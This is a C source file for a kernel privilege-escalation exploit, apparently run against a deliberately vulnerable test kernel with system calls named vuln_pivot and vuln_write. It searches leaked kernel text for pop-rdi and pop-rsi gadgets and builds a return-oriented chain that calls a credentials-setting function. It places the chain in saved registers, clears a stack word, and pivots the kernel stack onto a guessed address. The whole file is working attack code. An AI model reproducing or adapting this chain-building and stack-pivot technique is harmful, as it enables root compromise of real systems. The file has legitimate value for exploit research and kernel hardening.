/*
 * A chain in registers: the kernel saves them on its stack, and the stack pointer is moved there.
 * What a system call saves, from the address on that the attack guesses:
 *
 *   r15 r14 r13 r12 rbp rbx (r11) r10 r9 r8
 *
 * r11 is not saved, so that word is whatever it was: a gadget must pop it as one of those that it
 * pops besides. pop rdi, process; pop rsi, 0; credentials_set; and the rest of the stack is what
 * the fault behind that is made of.
 */
#include <stdbool.h>
#include <stdint.h>
#include <string.h>

#include "attack.h"

enum {
	CHAIN_WORDS = 10,
	WORD_R11 = 6,
	EXTRA_FITS = 1, /* two gadgets that pop no more besides make a chain that fits */
};

struct chain {
	uint64_t words[CHAIN_WORDS];
	unsigned int nr;
	bool fits;
};

/* A word that matters. */
static void add(struct chain *chain, uint64_t word)
{
	chain->fits = chain->fits && chain->nr < CHAIN_WORDS && chain->nr != WORD_R11;
	if (chain->fits) {
		chain->words[chain->nr++] = word;
	}
}

static void add_load(struct chain *chain, const struct gadget *gadget, uint64_t value)
{
	add(chain, gadget->address);
	add(chain, value);
	chain->nr += gadget->nr_extra;
}

struct pieces {
	struct gadget pop_rdi, pop_rsi;
};

/* With so many returns in between, so that the words that matter miss that of r11. */
static bool make_chain(const struct bw_leak *leak, const struct pieces *pieces,
		       unsigned int nr_returns, struct chain *chain)
{
	*chain = (struct chain){ .fits = true };
	add_load(chain, &pieces->pop_rdi, leak->process);
	for (unsigned int i = 0; i < nr_returns; i++) {
		add(chain, pieces->pop_rdi.at_return);
	}
	add_load(chain, &pieces->pop_rsi, 0);
	add(chain, leak->credentials_set);
	return chain->fits;
}

/* The gadget for a register that pops the least besides, or the first that is good enough. */
static bool find_best(struct gadget_text *text, enum gadget_register reg, struct gadget *best)
{
	bool found = false;
	uint64_t from = text->base;
	struct gadget gadget;

	while (!(found && best->nr_extra <= EXTRA_FITS) && gadget_find(text, from, reg, &gadget)) {
		if (!found || gadget.nr_extra < best->nr_extra) {
			*best = gadget;
			found = true;
		}
		from = gadget.address + 1;
	}
	return found;
}

static void find_chain(const struct bw_leak *leak, struct chain *chain)
{
	struct pieces pieces;
	struct gadget_text text;

	gadget_text_open(&text, leak);
	if (find_best(&text, GADGET_RDI, &pieces.pop_rdi) &&
	    find_best(&text, GADGET_RSI, &pieces.pop_rsi)) {
		for (unsigned int nr_returns = 0; nr_returns < CHAIN_WORDS; nr_returns++) {
			if (make_chain(leak, &pieces, nr_returns, chain)) {
				return;
			}
		}
	}
	attack_skip("the kernel's text has no gadgets short enough");
}

/* vuln_pivot with the chain in the registers that are saved one above the other. */
static __attribute__((noinline)) void pivot_with(const uint64_t *chain, uint64_t stack)
{
	__asm__ volatile("push %%rbp; push %%rbx\n"
			 "mov 0(%[chain]), %%r15; mov 8(%[chain]), %%r14\n"
			 "mov 16(%[chain]), %%r13; mov 24(%[chain]), %%r12\n"
			 "mov 32(%[chain]), %%rbp; mov 40(%[chain]), %%rbx\n"
			 "mov 56(%[chain]), %%r10; mov 64(%[chain]), %%r9\n"
			 "mov 72(%[chain]), %%r8; syscall\n"
			 "pop %%rbx; pop %%rbp"
			 : [chain] "+S"(chain)
			 : "a"(BW_NR_vuln_pivot), "D"(stack)
			 : "rcx", "r8", "r9", "r10", "r11", "r12", "r13", "r14", "r15", "memory");
}

/*
 * What other calls left there must not be run in place of the chain: it may lead anywhere in the
 * kernel, and back. Where the registers do lie there, this clears the first of this very call, r15.
 */
static __attribute__((noinline)) void clear(uint64_t address)
{
	long status = BW_NR_vuln_write;

	__asm__ volatile("syscall"
			 : "+a"(status)
			 : "D"(address), "S"(0L)
			 : "rcx", "r11", "r15", "memory");
	attack_check("vuln_write", status);
}

int main(void)
{
	struct chain chain;
	struct bw_leak leak;
	uint64_t guess;

	attack_leak(&leak);
	find_chain(&leak, &chain);
	guess = leak.stack_top - sizeof(struct bw_frame);
	attack_say("the kernel stack ends at 0x%lx; without a random offset the registers are at "
		   "0x%lx",
		   leak.stack_top, guess);
	clear(guess);
	pivot_with(chain.words, guess);
	return attack_finish();
}
